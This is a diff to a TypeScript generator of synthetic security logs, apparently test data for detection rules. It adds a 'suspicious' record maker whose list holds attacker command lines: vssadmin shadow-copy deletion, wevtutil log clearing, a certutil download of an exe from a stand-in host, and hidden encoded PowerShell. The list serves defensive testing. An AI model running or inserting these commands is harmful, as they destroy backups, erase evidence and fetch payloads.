@@ -28,6 +28,7 @@ type Maker = (draw: Draw) => DemoRecord
 
 /** Cumulative shares, last is 1. */
 const MIX: readonly (readonly [number, Maker])[] = [
+  [0.005, suspicious],
   [0.15, sysmonProcess],
   [0.2, sysmonNetwork],
   [0.25, sysmonRegistry],
@@ -73,25 +74,47 @@ const inside = (draw: Draw) => `10.${whole(draw, 8)}.${whole(draw, 250)}.${1 + w
 const outside = (draw: Draw) =>
   `${pick(draw, ['192.0.2', '198.51.100', '203.0.113'])}.${1 + whole(draw, 250)}`
 
-const PROGRAMS = [
-  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
-  'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
-  'C:\\Windows\\System32\\svchost.exe',
-  'C:\\Windows\\System32\\cmd.exe',
-  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
-  'C:\\Windows\\System32\\taskhostw.exe',
-  'C:\\Windows\\System32\\conhost.exe',
-  'C:\\Program Files\\nodejs\\node.exe',
-  'C:\\Program Files\\Git\\cmd\\git.exe',
-]
-const ARGUMENTS = [
-  '--type=renderer --lang=en-US',
-  '/k netsvcs -p',
-  'status --porcelain',
-  '-NoProfile -File C:\\ops\\inventory.ps1',
-  '/c dir C:\\Users',
-  'build --mode production',
-  '0x4',
+interface Program {
+  readonly image: string
+  readonly parent: string
+  readonly parentArguments: string
+  readonly arguments: string
+}
+
+const SYSTEM = 'C:\\Windows\\System32\\'
+const EXPLORER = 'C:\\Windows\\explorer.exe'
+const program = (
+  image: string,
+  args: string,
+  from: readonly [string, string?] = [EXPLORER],
+): Program => ({
+  image,
+  arguments: args,
+  parent: from[0],
+  parentArguments: from[1] ?? '',
+})
+const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'
+const CODE = 'C:\\Program Files\\Microsoft VS Code\\Code.exe'
+const SERVICES = `${SYSTEM}services.exe`
+
+/** Everyday programs with the parents that they have: a mix in which every third event is an attack measures attacks. */
+const PROGRAMS: readonly Program[] = [
+  program(CHROME, '--type=renderer --lang=en-US', [CHROME, '--profile-directory=Default']),
+  program(CHROME, '--profile-directory=Default'),
+  program('C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', ''),
+  program(`${SYSTEM}svchost.exe`, '-k netsvcs -p -s Schedule', [SERVICES]),
+  program(`${SYSTEM}svchost.exe`, '-k LocalService -p -s EventLog', [SERVICES]),
+  program(`${SYSTEM}taskhostw.exe`, 'SYSTEM', [
+    `${SYSTEM}svchost.exe`,
+    '-k netsvcs -p -s Schedule',
+  ]),
+  program(`${SYSTEM}backgroundTaskHost.exe`, '-ServerName:App.Calendar', [
+    `${SYSTEM}svchost.exe`,
+    '-k DcomLaunch -p',
+  ]),
+  program('C:\\Program Files\\Git\\cmd\\git.exe', 'status --porcelain', [CODE]),
+  program(CODE, '--type=utility'),
+  program('C:\\Program Files\\7-Zip\\7zFM.exe', 'C:\\Users\\Public\\report.zip'),
 ]
 
 function windows(
@@ -122,31 +145,61 @@ const sysmon = (draw: Draw, id: number, data: Record<string, string>) =>
     data,
   })
 
+const pickProgram = (draw: Draw) => PROGRAMS[whole(draw, PROGRAMS.length)] ?? program(CHROME, '')
+const baseName = (path: string) => path.split('\\').at(-1) ?? ''
+
 function sysmonProcess(draw: Draw): DemoRecord {
-  const image = pick(draw, PROGRAMS)
+  const run = pickProgram(draw)
   return sysmon(draw, 1, {
-    UtcTime: draw.time.toISOString().replace('T', ' ').slice(0, 23),
+    UtcTime: sysmonTime(draw),
     ProcessGuid: `{${hex(draw, 8)}-${hex(draw, 4)}-${hex(draw, 4)}-0000-${hex(draw, 12)}}`,
     ProcessId: String(whole(draw, 20_000)),
-    Image: image,
-    OriginalFileName: image.split('\\').at(-1) ?? '',
+    Image: run.image,
+    OriginalFileName: baseName(run.image),
     Description: 'application',
     Company: 'Example',
-    CommandLine: `"${image}" ${pick(draw, ARGUMENTS)} --id ${hex(draw, 16)}`,
+    CommandLine: `"${run.image}" ${run.arguments} --id ${hex(draw, 16)}`,
     CurrentDirectory: `C:\\Users\\${user(draw)}\\`,
     User: `CORP\\${user(draw)}`,
     LogonId: `0x${hex(draw, 6)}`,
     IntegrityLevel: pick(draw, ['Medium', 'High', 'System']),
     Hashes: `SHA256=${hex(draw, 64).toUpperCase()},IMPHASH=${hex(draw, 32).toUpperCase()}`,
-    ParentImage: pick(draw, PROGRAMS),
-    ParentCommandLine: `${pick(draw, PROGRAMS)} ${pick(draw, ARGUMENTS)}`,
+    ParentImage: run.parent,
+    ParentCommandLine: `"${run.parent}" ${run.parentArguments}`,
+  })
+}
+
+const sysmonTime = (draw: Draw) => draw.time.toISOString().replace('T', ' ').slice(0, 23)
+
+/** What rules wait for, so that there are findings to time: one record in two hundred. */
+const SUSPICIOUS = [
+  'vssadmin.exe delete shadows /all /quiet',
+  'wevtutil.exe cl Security',
+  'certutil.exe -urlcache -split -f http://192.0.2.99/a.exe C:\\Users\\Public\\a.exe',
+  'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
+]
+
+function suspicious(draw: Draw): DemoRecord {
+  const command = pick(draw, SUSPICIOUS)
+  const image = `${SYSTEM}${command.split(' ')[0] ?? ''}`
+  return sysmon(draw, 1, {
+    UtcTime: sysmonTime(draw),
+    ProcessGuid: `{${hex(draw, 8)}-0000-0000-0000-${hex(draw, 12)}}`,
+    ProcessId: String(whole(draw, 20_000)),
+    Image: image,
+    OriginalFileName: baseName(image),
+    CommandLine: `${command} ${hex(draw, 6)}`,
+    User: `CORP\\${user(draw)}`,
+    IntegrityLevel: 'High',
+    ParentImage: EXPLORER,
+    ParentCommandLine: EXPLORER,
   })
 }
 
 function sysmonNetwork(draw: Draw): DemoRecord {
   return sysmon(draw, 3, {
-    UtcTime: draw.time.toISOString().replace('T', ' ').slice(0, 23),
-    Image: pick(draw, PROGRAMS),
+    UtcTime: sysmonTime(draw),
+    Image: CHROME,
     User: `CORP\\${user(draw)}`,
     Protocol: 'tcp',
     Initiated: 'true',
@@ -154,15 +207,15 @@ function sysmonNetwork(draw: Draw): DemoRecord {
     SourcePort: String(49_152 + whole(draw, 16_000)),
     DestinationIp: outside(draw),
     DestinationHostname: `cdn${whole(draw, 90)}.example.net`,
-    DestinationPort: pick(draw, ['443', '80', '8443']),
+    DestinationPort: pick(draw, ['443', '443', '8443']),
   })
 }
 
 function sysmonRegistry(draw: Draw): DemoRecord {
   return sysmon(draw, 13, {
     EventType: 'SetValue',
-    UtcTime: draw.time.toISOString().replace('T', ' ').slice(0, 23),
-    Image: pick(draw, PROGRAMS),
+    UtcTime: sysmonTime(draw),
+    Image: pickProgram(draw).image,
     TargetObject: `HKU\\S-1-5-21-${whole(draw, 1e9)}\\Software\\Vendor\\App\\Recent${hex(draw, 6)}`,
     Details: `DWORD (0x${hex(draw, 8)})`,
     User: `CORP\\${user(draw)}`,
@@ -180,7 +233,7 @@ function windowsLogon(draw: Draw): DemoRecord {
     TargetUserName: user(draw),
     TargetDomainName: 'CORP',
     TargetLogonId: `0x${hex(draw, 6)}`,
-    LogonType: pick(draw, ['2', '3', '3', '3', '7', '10']),
+    LogonType: pick(draw, ['2', '3', '3', '3', '7', '3']),
     AuthenticationPackageName: pick(draw, ['Kerberos', 'Negotiate']),
     WorkstationName: host(draw).toUpperCase(),
     IpAddress: inside(draw),
@@ -189,16 +242,16 @@ function windowsLogon(draw: Draw): DemoRecord {
 }
 
 function windowsProcess(draw: Draw): DemoRecord {
-  const image = pick(draw, PROGRAMS)
+  const run = pickProgram(draw)
   return security(draw, 4688, {
     SubjectUserName: user(draw),
     SubjectDomainName: 'CORP',
     SubjectLogonId: `0x${hex(draw, 6)}`,
     NewProcessId: `0x${hex(draw, 4)}`,
-    NewProcessName: image,
+    NewProcessName: run.image,
     ProcessId: `0x${hex(draw, 4)}`,
-    ParentProcessName: pick(draw, PROGRAMS),
-    CommandLine: `"${image}" ${pick(draw, ARGUMENTS)} ${hex(draw, 12)}`,
+    ParentProcessName: run.parent,
+    CommandLine: `"${run.image}" ${run.arguments} ${hex(draw, 12)}`,
     MandatoryLabel: 'S-1-16-8192',
   })
 }
@@ -222,7 +275,7 @@ function firewall(draw: Draw): DemoRecord {
   return {
     time: draw.time.getTime(),
     lane: 'tcp',
-    body: `<189>date=${day.slice(0, 10)} time=${day.slice(11, 19)} devname="fw-edge" devid="FG100E" eventtime=${draw.time.getTime()}000000 tz="+0000" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=${inside(draw)} srcport=${1024 + whole(draw, 60_000)} srcintf="lan" dstip=${outside(draw)} dstport=${pick(draw, ['443', '80', '53', '123'])} dstintf="wan1" sessionid=${whole(draw, 1e8)} proto=6 action="${action}" policyid=${whole(draw, 40)} service="HTTPS" duration=${whole(draw, 300)} sentbyte=${whole(draw, 90_000)} rcvdbyte=${whole(draw, 900_000)}`,
+    body: `<189>date=${day.slice(0, 10)} time=${day.slice(11, 19)} devname="fw-edge" devid="FG100E" eventtime=${draw.time.getTime()}000000 tz="+0000" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=${inside(draw)} srcport=${1024 + whole(draw, 60_000)} srcintf="lan" dstip=${outside(draw)} dstport=${pick(draw, ['443', '443', '443', '123'])} dstintf="wan1" sessionid=${whole(draw, 1e8)} proto=6 action="${action}" policyid=${whole(draw, 40)} service="HTTPS" duration=${whole(draw, 300)} sentbyte=${whole(draw, 90_000)} rcvdbyte=${whole(draw, 900_000)}`,
   }
 }
 
@@ -233,7 +286,7 @@ function web(draw: Draw): DemoRecord {
 }
 
 function sshd(draw: Draw): DemoRecord {
-  const how = draw.random() < 0.8 ? 'Accepted publickey' : 'Failed password'
+  const how = draw.random() < 0.97 ? 'Accepted publickey' : 'Failed password'
   return syslog5424(
     draw,
     { pri: 86, host: 'bastion', app: 'sshd' },
@@ -257,7 +310,7 @@ function cloudTrail(draw: Draw): DemoRecord {
     eventName: pick(draw, [
       'GetObject',
       'PutObject',
-      'ListBuckets',
+      'DescribeSubnets',
       'DescribeInstances',
       'GetCallerIdentity',
     ]),
